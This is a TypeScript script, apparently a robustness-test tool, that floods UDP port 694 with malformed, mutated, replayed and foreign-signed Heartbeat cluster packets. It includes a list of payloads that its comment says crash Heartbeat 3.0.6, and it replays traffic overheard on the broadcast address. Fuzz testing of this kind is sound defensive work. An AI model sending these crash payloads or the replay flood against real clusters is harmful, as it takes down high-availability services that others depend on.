// A hostile neighbour: sends a bounded number of bad packets to port 694 of everybody on its net.
//
// Run as `bun mallory.ts COUNT PER_SECOND ADDRESS…`. Kinds, in turn: the packets that kill Heartbeat
// 3.0.6 (heartbeat-wire 15.2), random bytes, true packets with one byte changed, true packets said
// again, captures signed with other keys. "True" are those that it overhears on the broadcast address.

import { createSocket } from "node:dgram";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";

const [countText = "1000", perSecondText = "5000", ...targets] = process.argv.slice(2);
const count = Number(countText);
const perSecond = Number(perSecondText);
const GOLDEN = join(import.meta.dir, "../golden/heartbeat");

const KILLERS = [
  "###\n3:abc,%%%\n2:1 ,",
  "###\n9:(9)t=abcd,%%%\n2:1 ,",
  "###\n7:(x)t=ab,%%%\n2:1 ,",
  "###\n6:(0)abc,%%%\n2:1 ,",
  "###\n999999:(0)t=status,%%%\n",
  "###\n-1:(0)t=status,%%%\n2:1 ,",
  "###\n12:(2)f=99:xx,,%%%\n2:1 ,",
  ">>>\nt=status\nst=active\n<<<\n",
  ">>>\n",
  "",
  "#",
].map((text) => Buffer.from(text, "latin1"));

/** Payloads of the captures: real messages of other clusters, well signed with keys that are not ours. */
function foreign(): Buffer[] {
  const texts = ["core-md5-ucast", "core-crc-bcast"].flatMap((capture) =>
    readdirSync(join(GOLDEN, capture))
      .filter((name) => name.endsWith(".txt"))
      .map((name) => readFileSync(join(GOLDEN, capture, name), "latin1")),
  );
  const lines = texts.flatMap((text) => text.split("\n").filter((line) => line.startsWith("hex ")));
  return lines.slice(0, 500).map((line) => Buffer.from(line.slice(4), "hex"));
}

// Repeatable: the same flood every time.
let state = 0x9e3779b9;
function random(below: number): number {
  state ^= state << 13;
  state ^= state >>> 17;
  state ^= state << 5;
  return (state >>> 0) % below;
}

const overheard: Buffer[] = [];
const others = foreign();

function packet(i: number): Buffer {
  const said = overheard[random(Math.max(1, overheard.length))];
  switch (i % 5) {
    case 0:
      return KILLERS[random(KILLERS.length)] ?? Buffer.alloc(0);
    case 1:
      return Buffer.from(Array.from({ length: random(1_400) }, () => random(256)));
    case 2: {
      const changed = Buffer.from(said ?? KILLERS[0] ?? "");
      if (changed.length > 0) changed[random(changed.length)] = random(256);
      return changed;
    }
    case 3:
      return said ?? Buffer.from("nothing heard yet");
    default:
      return others[random(others.length)] ?? Buffer.alloc(0);
  }
}

const ear = createSocket({ type: "udp4", reuseAddr: true });
ear.on("message", (bytes) => {
  if (overheard.length < 200) overheard.push(Buffer.from(bytes));
  else overheard[random(200)] = Buffer.from(bytes);
});
ear.bind(694, () => {
  ear.setBroadcast(true);
  let sent = 0;
  const timer = setInterval(() => {
    for (let burst = perSecond / 100; burst > 0 && sent < count; burst--, sent++) {
      const target = targets[sent % targets.length] ?? "127.0.0.1";
      ear.send(packet(sent), 694, target, () => {});
    }
    if (sent < count) return;
    clearInterval(timer);
    setTimeout(() => {
      process.stdout.write(`${sent} sent, ${overheard.length} overheard\n`);
      ear.close();
    }, 200);
  }, 10);
});
ear.on("error", () => {});
